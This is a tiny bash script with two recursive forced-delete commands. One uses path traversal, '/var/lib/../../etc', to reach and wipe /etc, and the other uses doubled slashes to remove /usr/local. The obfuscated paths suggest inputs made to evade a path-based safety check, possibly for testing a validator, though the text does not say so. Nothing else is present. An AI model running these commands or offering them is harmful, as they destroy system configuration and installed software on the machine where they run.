#!/usr/bin/env bash
rm -rf /var/lib/../../etc
rm -rf //usr//local/
